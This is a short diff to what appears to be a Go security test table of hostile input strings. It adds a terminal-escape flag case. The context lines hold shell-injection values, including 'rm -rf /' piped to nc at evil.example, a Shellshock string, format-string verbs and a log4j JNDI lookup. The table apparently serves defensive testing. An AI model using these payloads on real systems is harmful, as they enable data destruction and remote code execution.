@@ -231,6 +231,7 @@ var textAttacks = []textAttack{
 	{name: "command substitution", head: "$(id)`id`", outcomes: printableASCII},
 	{name: "command separators", head: "; rm -rf / | nc evil.example 1 && calc", outcomes: printableASCII},
 	{name: "flag of a command", head: "--help", outcomes: printableASCII},
+	{name: "flag with an escape sequence", head: "-\x1b[2J=1", outcomes: control},
 	{name: "shell function", head: "() { :;}; id", outcomes: printableASCII},
 	{name: "format verbs", head: "%n%s%d%!s(MISSING)%99999999d", outcomes: printableASCII},
 	{name: "log4j", head: "${jndi:ldap://evil.example/a}", outcomes: printableASCII},
